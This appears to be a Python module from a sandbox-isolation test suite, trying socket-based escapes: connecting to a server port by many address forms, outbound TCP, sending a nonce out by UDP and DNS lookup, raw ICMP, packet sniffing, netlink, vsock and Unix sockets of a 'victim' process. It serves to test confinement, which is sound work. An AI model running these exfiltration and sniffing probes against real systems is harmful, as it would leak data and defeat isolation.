"""Attacks through sockets: the server's port, the world, the kernel's address families."""

import os
import socket
from typing import Any

from raw import Answer, Target

_IPPROTO_MPTCP = 262
_MSG_FASTOPEN = 0x20000000
_OUTSIDE = "198.51.100.1"  # reserved for documentation: a packet on its way there is proof enough
_GET = b"GET / HTTP/1.0\r\n\r\n"
_ANSWER_S = 1.0


def server_port_loopback(target: Target, answer: Answer) -> None:
    _ask(socket.AF_INET, ("127.0.0.1", target["port"]), answer)
    _ask(socket.AF_INET6, ("::1", target["port"]), answer)


def server_port_eth0(target: Target, answer: Answer) -> None:
    _ask(socket.AF_INET, (target["address"], target["port"]), answer)


def server_port_zero(target: Target, answer: Answer) -> None:
    _ask(socket.AF_INET, ("0.0.0.0", target["port"]), answer)
    _ask(socket.AF_INET6, ("::", target["port"]), answer)


def server_port_ipv6_mapped(target: Target, answer: Answer) -> None:
    _ask(socket.AF_INET6, ("::ffff:127.0.0.1", target["port"]), answer)


def server_port_mptcp(target: Target, answer: Answer) -> None:
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        _ask(family, (host, target["port"]), answer, _IPPROTO_MPTCP)


def server_port_tfo(target: Target, answer: Answer) -> None:
    with answer.trying("MSG_FASTOPEN"), socket.socket(socket.AF_INET) as sock:
        # Without a timeout: on a socket with one, Python does not wait for the connection.
        sock.sendto(_GET, _MSG_FASTOPEN, ("127.0.0.1", target["port"]))
        answer.read.append(_all(sock))


def outbound_tcp(target: Target, answer: Answer) -> None:
    with answer.trying("connect"), socket.socket(socket.AF_INET) as sock:
        sock.setblocking(False)
        try:
            sock.connect((_OUTSIDE, 443))
        except BlockingIOError:
            answer.did.append("a connection is on its way out")


def dns_udp_exfil(target: Target, answer: Answer) -> None:
    for host, port in ((_OUTSIDE, 53), ("127.0.0.1", target["udp_port"])):
        with answer.trying(f"to {host}"), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(target["nonce"].encode(), (host, port))
            answer.did.append(f"a datagram to {host}")


def dns_getaddrinfo(target: Target, answer: Answer) -> None:
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
    try:
        socket.getaddrinfo(f"{target['nonce']}.paddock.invalid", 443)
        answer.did.append("resolved")
    except socket.gaierror as exc:
        # "No such name" is what a name server said; otherwise none was reached.
        (answer.did if exc.errno == socket.EAI_NONAME else answer.refused).append(str(exc))


def raw_icmp(target: Target, answer: Answer) -> None:
    for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58)):
        _make(family, socket.SOCK_RAW, protocol, answer.did, answer)


def ping_socket(target: Target, answer: Answer) -> None:
    for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58)):
        _make(family, socket.SOCK_DGRAM, protocol, answer.did, answer)


def packet_sniff(target: Target, answer: Answer) -> None:
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        _make(socket.AF_PACKET, kind, 0x0300, answer.did, answer)


def netlink(target: Target, answer: Answer) -> None:
    for protocol in (0, 4, 9, 15):  # routes, socket diagnosis, audit, devices
        _make(socket.AF_NETLINK, socket.SOCK_RAW, protocol, answer.partly, answer)


def vsock(target: Target, answer: Answer) -> None:
    _make(socket.AF_VSOCK, socket.SOCK_STREAM, 0, answer.partly, answer)


def af_alg_etc(target: Target, answer: Answer) -> None:
    for family, kind in ((38, 5), (15, 3), (21, 5), (29, 3), (30, 5), (31, 3), (39, 3), (44, 3)):
        _make(family, kind, 0, answer.partly, answer)


def abstract_server(target: Target, answer: Answer) -> None:
    _ask(socket.AF_UNIX, "\0" + target["server_abstract"], answer)


def abstract_victim(target: Target, answer: Answer) -> None:
    _ask(socket.AF_UNIX, "\0" + target["victim_abstract"], answer)


def abstract_dgram_victim(target: Target, answer: Answer) -> None:
    name = "\0" + target["victim_abstract"] + "-dgram"
    with answer.trying("sendto"), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.sendto(target["nonce"].encode(), name)


def unix_path_world(target: Target, answer: Answer) -> None:
    _ask(socket.AF_UNIX, target["server_socket"], answer)


def unix_path_victim(target: Target, answer: Answer) -> None:
    _ask(socket.AF_UNIX, target["victim_socket"], answer)


def _ask(family: int, address: Any, answer: Answer, protocol: int = 0) -> None:
    with answer.trying(str(address)), socket.socket(family, socket.SOCK_STREAM, protocol) as sock:
        sock.settimeout(_ANSWER_S)
        sock.connect(address)
        sock.sendall(_GET)
        answer.read.append(_all(sock))


def _all(sock: socket.socket) -> str:
    parts: list[bytes] = []
    while part := sock.recv(65536):
        parts.append(part)
    return b"".join(parts).decode(errors="replace")


def _make(family: int, kind: int, protocol: int, success: list[str], answer: Answer) -> None:
    what = f"socket({family}, {kind}, {protocol})"
    with answer.trying(what), socket.socket(family, kind, protocol):
        success.append(what)
